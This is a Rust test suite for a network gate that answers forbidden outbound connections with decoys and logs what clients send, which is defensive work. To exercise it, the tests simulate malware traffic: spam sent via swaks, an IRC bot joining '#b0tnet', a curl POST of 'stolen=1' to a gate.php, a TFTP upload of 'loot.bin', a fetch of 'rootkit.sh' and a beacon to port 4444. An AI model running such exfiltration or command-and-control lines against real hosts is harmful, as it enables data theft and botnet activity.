//! Decoys, between real clients and a destination that is never reached.
//!
//! As root; else each test says that it was not run.

mod common;

use common::gate::config;
use common::{Gate, Lab, SOON, Wire, until};
use serde_json::Value;
use std::path::Path;
use std::process::{Child, Command, Output, Stdio};
use std::time::Duration;

/// Forbidden connections are answered by the gate, and what they say is kept.
const DECOYS: &str = "[decoy]\nname = \"relay.example.net\"\nsilence = \"3s\"\ndeadline = \"8s\"\n\
    [[rule]]\nname = \"irc\"\naction = \"decoy\"\n\
    [[rule]]\nname = \"smtp\"\naction = \"decoy\"\n\
    [[rule]]\nname = \"tftp\"\naction = \"decoy\"\n\
    [[rule]]\nname = \"web\"\naction = \"decoy\"\nproto = \"tcp\"\ndport = [80, 8080]\nalert = \"medium\"\n\
    [[rule]]\nname = \"odd\"\naction = \"decoy\"\ndecoy = \"raw\"\nproto = [\"tcp\", \"udp\"]\ndport = 4444\nalert = \"high\"\n";

/// In the LAN, with a limit on its time.
fn client(lab: &Lab, program: &str, arguments: &[&str]) -> Output {
    let mut command = lab.command("lan", "timeout");
    command.arg("15").arg(program).args(arguments);
    command.current_dir(lab.dir());
    command.output().expect("a client that can be run")
}

fn text(output: &Output) -> String {
    let both = [&output.stdout[..], &output.stderr].concat();
    String::from_utf8_lossy(&both).into_owned()
}

/// The alert line of this rule that tells of a conversation.
fn told(gate: &Gate<'_>, rule: &str) -> Value {
    until(
        "a line with the conversation",
        Duration::from_secs(15),
        || {
            let mut lines = gate.alerts(1).into_iter();
            lines.find(|line| {
                line["alert"]["signature"] == rule && line["decoy"]["transcript"].is_array()
            })
        },
    )
}

/// The transcript in one piece.
fn transcript(line: &Value) -> String {
    let lines = line["decoy"]["transcript"].as_array().expect("lines");
    let lines = lines.iter().map(|line| line.as_str().expect("text"));
    lines.collect::<Vec<_>>().join("\n")
}

#[track_caller]
fn says(transcript: &str, wanted: &[&str]) {
    for wanted in wanted {
        assert!(
            transcript.lines().any(|line| line.starts_with(wanted)),
            "{wanted:?} in\n{transcript}"
        );
    }
}

/// Nothing of TCP or UDP came out of the gate.
#[track_caller]
fn nothing_left(uplink: &Wire) {
    for frame in uplink.drain() {
        let parsed = etherparse::SlicedPacket::from_ethernet(&frame).expect("a frame");
        assert!(
            !matches!(
                parsed.transport,
                Some(etherparse::TransportSlice::Tcp(_) | etherparse::TransportSlice::Udp(_))
            ),
            "it left: {frame:02x?}"
        );
    }
}

fn assert_accounts(gate: &Gate<'_>) {
    let status = gate.assert_balanced();
    let given = &status["ports"]["lan"]["to_host_stack"];
    assert!(given.as_u64().is_some_and(|given| given > 0), "{status:#}");
}

#[test]
fn mail_clients_believe_it_and_what_they_would_have_sent_is_in_the_alert() {
    let Some(lab) = Lab::addressed() else { return };
    let uplink = Wire::open(&lab, "uplink", "up0");
    let gate = Gate::with(&lab, &config(&lab, "", DECOYS));
    let sent = client(
        &lab,
        "swaks",
        &[
            "--server",
            "93.184.216.34",
            "--from",
            "bot@evil.example",
            "--to",
            "a@victim.example,b@victim.example",
            "--h-Subject",
            "cheap watches",
            "--body",
            "buy now",
            "--timeout",
            "10",
        ],
    );
    let said = text(&sent);
    assert!(said.contains("220 relay.example.net"), "{said}");
    assert!(said.contains("354") && said.contains("451"), "{said}");
    let line = told(&gate, "smtp");
    let heard = transcript(&line);
    says(
        &heard,
        &[
            "S: 220 relay.example.net",
            "C: EHLO",
            "C: MAIL FROM:<bot@evil.example>",
            "C: RCPT TO:<a@victim.example>",
            "C: RCPT TO:<b@victim.example>",
            "C: DATA",
            "S: 354",
            "C: Subject: cheap watches",
            "C: buy now",
            "C: .",
            "S: 451",
            "C: QUIT",
            "S: 221",
        ],
    );
    let mail = &line["smtp"];
    assert_eq!(mail["mail_from"], "bot@evil.example", "{line:#}");
    assert_eq!(mail["rcpt_to"], "a@victim.example, b@victim.example");
    assert_eq!(mail["subject"], "cheap watches");
    assert_eq!(line["app_proto"], "smtp");
    assert_eq!(line["alert"]["action"], "blocked");
    assert_eq!(line["alert"]["verdict"], "decoy");
    assert_eq!(line["src_ip"], "10.77.0.9");
    nothing_left(&uplink);
    assert_accounts(&gate);
}

#[test]
fn smtplib_over_ipv6_is_told_to_come_again() {
    let Some(lab) = Lab::addressed() else { return };
    let uplink = Wire::open(&lab, "uplink", "up0");
    let gate = Gate::with(&lab, &config(&lab, "", DECOYS));
    let program = "import smtplib\n\
        s = smtplib.SMTP('2606:2800:220:1::34', 25, timeout=10)\n\
        try:\n    s.sendmail('x@evil.example', ['y@victim.example'], 'Subject: six\\r\\n\\r\\nhello\\r\\n')\n\
        except smtplib.SMTPDataError as e:\n    print('code', e.smtp_code)\n\
        s.quit()\n";
    let sent = client(&lab, "python3", &["-c", program]);
    assert!(text(&sent).contains("code 451"), "{}", text(&sent));
    let line = told(&gate, "smtp");
    assert_eq!(line["smtp"]["subject"], "six", "{line:#}");
    assert_eq!(line["dest_ip"], "2606:2800:220:1::34");
    nothing_left(&uplink);
    assert_accounts(&gate);
}

/// A client that runs for a while; ended when it is dropped.
struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn spawn(command: &mut Command) -> Running {
    command
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    Running(command.spawn().expect("a client"))
}

#[test]
fn an_irc_client_is_welcome_joins_and_its_channel_and_key_are_in_the_alert() {
    let Some(lab) = Lab::addressed() else { return };
    let uplink = Wire::open(&lab, "uplink", "up0");
    let gate = Gate::with(&lab, &config(&lab, "", DECOYS));
    let home = lab.dir().join("irc");
    let mut command = lab.command("lan", "ii");
    command.args([
        "-s",
        "93.184.216.34",
        "-p",
        "6667",
        "-n",
        "zombie",
        "-f",
        "bot one",
        "-i",
    ]);
    let client = spawn(command.arg(&home));
    let server = home.join("93.184.216.34");
    let heard = |file: &Path, wanted: &str| {
        let file = file.to_owned();
        until(wanted, SOON * 2, || {
            let text = std::fs::read_to_string(&file).unwrap_or_default();
            text.contains(wanted).then_some(())
        });
    };
    heard(&server.join("out"), "Welcome");
    let say = |to: &Path, what: &str| std::fs::write(to, format!("{what}\n")).expect("its pipe");
    say(&server.join("in"), "/j #b0tnet s3cr3t");
    let channel = server.join("#b0tnet");
    until("the channel", SOON, || {
        channel.join("in").exists().then_some(())
    });
    say(&channel.join("in"), "ready for orders");
    heard(&channel.join("out"), "ready for orders");
    std::thread::sleep(Duration::from_millis(500));
    drop(client);
    let line = told(&gate, "irc");
    says(
        &transcript(&line),
        &[
            "C: NICK zombie",
            "C: USER",
            "S: :relay.example.net 001 zombie",
            "S: PING",
            "C: PONG",
            "C: JOIN #b0tnet s3cr3t",
            "C: PRIVMSG #b0tnet :ready for orders",
        ],
    );
    let irc = &line["irc"];
    assert_eq!(irc["nick"], "zombie", "{line:#}");
    assert_eq!(irc["channels"], "#b0tnet");
    assert_eq!(irc["keys"], "s3cr3t");
    nothing_left(&uplink);
    assert_accounts(&gate);
}

#[test]
fn web_clients_get_an_empty_503_and_their_agent_is_in_the_alert() {
    let Some(lab) = Lab::addressed() else { return };
    let uplink = Wire::open(&lab, "uplink", "up0");
    let gate = Gate::with(&lab, &config(&lab, "", DECOYS));
    let url = "http://93.184.216.34:8080/gate.php?id=7";
    let got = client(
        &lab,
        "curl",
        &["-sS", "-i", "-A", "EvilBot/1.0", "-d", "stolen=1", url],
    );
    assert!(
        text(&got).contains("503 Service Unavailable"),
        "{}",
        text(&got)
    );
    let line = told(&gate, "web");
    assert_eq!(line["http"]["user_agent"], "EvilBot/1.0", "{line:#}");
    assert_eq!(line["http"]["method"], "POST");
    says(
        &transcript(&line),
        &["C: POST /gate.php?id=7", "C: stolen=1", "S: HTTP/1.1 503"],
    );
    nothing_left(&uplink);
    assert_accounts(&gate);
}

#[test]
fn tftp_clients_lose_a_file_to_it_and_find_none() {
    let Some(lab) = Lab::addressed() else { return };
    let uplink = Wire::open(&lab, "uplink", "up0");
    let gate = Gate::with(&lab, &config(&lab, "", DECOYS));
    std::fs::write(lab.dir().join("loot.bin"), [b'x'; 1300]).unwrap();
    let put = client(
        &lab,
        "tftp",
        &["-m", "binary", "93.184.216.34", "-c", "put", "loot.bin"],
    );
    assert!(
        put.status.success() && text(&put).is_empty(),
        "{}",
        text(&put)
    );
    let line = told(&gate, "tftp");
    assert_eq!(line["tftp"]["file"], "loot.bin", "{line:#}");
    assert_eq!(line["tftp"]["bytes"], "1300");
    let got = client(&lab, "curl", &["-sS", "tftp://93.184.216.34/rootkit.sh"]);
    assert_eq!(
        got.status.code(),
        Some(68),
        "file not found: {}",
        text(&got)
    );
    nothing_left(&uplink);
    assert_accounts(&gate);
}

#[test]
fn what_nobody_knows_is_read_over_tcp_and_udp_and_ends_in_silence() {
    let Some(lab) = Lab::addressed() else { return };
    let uplink = Wire::open(&lab, "uplink", "up0");
    let gate = Gate::with(&lab, &config(&lab, "", DECOYS));
    let program = "import socket, time\n\
        t = socket.create_connection(('93.184.216.34', 4444), 5); t.sendall(b'hello\\x00\\x1b[2J'); time.sleep(0.3); t.close()\n\
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'beacon 1', ('93.184.216.34', 4444))\n";
    let done = client(&lab, "python3", &["-c", program]);
    assert!(done.status.success(), "{}", text(&done));
    let lines = until("both conversations", Duration::from_secs(15), || {
        let lines = gate.alerts(1).into_iter();
        let told: Vec<Value> = lines
            .filter(|line| line["decoy"]["transcript"].is_array())
            .collect();
        (told.len() == 2).then_some(told)
    });
    assert_eq!(lines[0]["decoy"]["protocol"], "raw", "{lines:#?}");
    says(&transcript(&lines[0]), &["C: hello\\x00\\x1b[2J"]);
    assert_eq!(lines[0]["decoy"]["ended"], "the client closed it");
    says(&transcript(&lines[1]), &["C: beacon 1"]);
    assert_eq!(lines[1]["decoy"]["ended"], "the client fell silent");
    nothing_left(&uplink);
    assert_accounts(&gate);
}

#[test]
fn there_are_as_many_conversations_as_may_be_and_one_host_has_not_all_of_them() {
    let Some(lab) = Lab::addressed() else { return };
    let uplink = Wire::open(&lab, "uplink", "up0");
    lab.ip("lan", "address add 10.77.0.8/24 dev lan0");
    let few = DECOYS.replacen("[decoy]\n", "[decoy]\nat_most = 3\nfor_a_host = 2\n", 1);
    let gate = Gate::with(&lab, &config(&lab, "", &few));
    let program = "import socket, sys\n\
        held = []\n\
        def opens(src):\n    c = socket.socket(); c.settimeout(1.5); c.bind((src, 0))\n    try: c.connect(('93.184.216.34', 4444))\n    except OSError: return False\n    held.append(c); return True\n\
        print([opens(src) for src in ['10.77.0.9'] * 3 + ['10.77.0.8'] * 2])\n\
        [c.close() for c in held]; held.clear()\n\
        import time; time.sleep(1)\n\
        print(opens('10.77.0.9'))\n";
    let done = client(&lab, "python3", &["-c", program]);
    assert_eq!(
        text(&done),
        "[True, True, False, True, False]\nTrue\n",
        "the third of one host, the fourth of all; and room when they are over"
    );
    let status = gate.status();
    assert!(
        status["decoys"]["refused_host"].as_u64() > Some(0),
        "{status:#}"
    );
    let dropped = &status["ports"]["lan"]["dropped"]["decoy-full"];
    assert!(dropped.as_u64() > Some(0), "{status:#}");
    nothing_left(&uplink);
    assert_accounts(&gate);
}

#[test]
fn a_transcript_is_kept_as_a_file_beside_the_capture() {
    let Some(lab) = Lab::addressed() else { return };
    let dir = lab.dir().join("evidence");
    let more = format!("[evidence]\ndir = \"{}\"\n{DECOYS}", dir.display());
    let gate = Gate::with(&lab, &config(&lab, "", &more));
    client(&lab, "curl", &["-sS", "http://93.184.216.34/x"]);
    let line = told(&gate, "web");
    let file = line["decoy"]["evidence"].as_str().expect("a file");
    assert!(file.ends_with("_10.77.0.9_web.decoy.txt"), "{file}");
    let kept = until("the file", SOON, || std::fs::read_to_string(file).ok());
    for wanted in [
        "10.77.0.9",
        "93.184.216.34:80",
        "C: GET /x HTTP/1.1",
        "S: HTTP/1.1 503",
    ] {
        assert!(kept.contains(wanted), "{wanted:?} in\n{kept}");
    }
    let capture = line["alert"]["evidence"].as_str().expect("a capture");
    assert!(capture.ends_with(".pcapng") && Path::new(capture).exists());
}
